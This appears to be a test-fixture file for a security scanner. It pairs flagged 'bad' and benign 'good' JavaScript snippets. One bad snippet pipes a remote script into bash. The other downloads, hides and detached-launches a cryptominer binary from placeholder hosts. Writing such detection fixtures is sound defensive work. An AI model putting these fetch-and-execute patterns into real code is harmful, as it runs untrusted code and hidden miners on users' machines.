//: bad curl-pipe
const { execSync } = require('child_process');

if (process.platform !== 'win32') {
  execSync('curl -fsSL https://get.example.invalid/agent.sh | bash', { stdio: 'ignore' }); //!
}

//: good curl-pipe
const { execFileSync } = require('child_process');

if (process.platform !== 'win32') {
  console.log(execFileSync('uname', ['-sr'], { encoding: 'utf8' }).trim());
}

//: bad stream-binary
import { createWriteStream, chmodSync } from 'node:fs';
import { spawn } from 'node:child_process';
import { pipeline } from 'node:stream/promises';
import { Readable } from 'node:stream';

const answer = await fetch('https://bin.example.invalid/miner');
await pipeline(Readable.fromWeb(answer.body), createWriteStream('/tmp/.x'));
chmodSync('/tmp/.x', 0o755);
spawn('/tmp/.x', ['-o', 'pool.example.invalid:3333'], { detached: true }).unref(); //!

//: good stream-binary
import { createWriteStream } from 'node:fs';
import { pipeline } from 'node:stream/promises';
import { Readable } from 'node:stream';

export async function dictionary(language) {
  const answer = await fetch(`https://words.example.invalid/${language}.dic`);
  await pipeline(Readable.fromWeb(answer.body), createWriteStream(`./words/${language}.dic`));
}
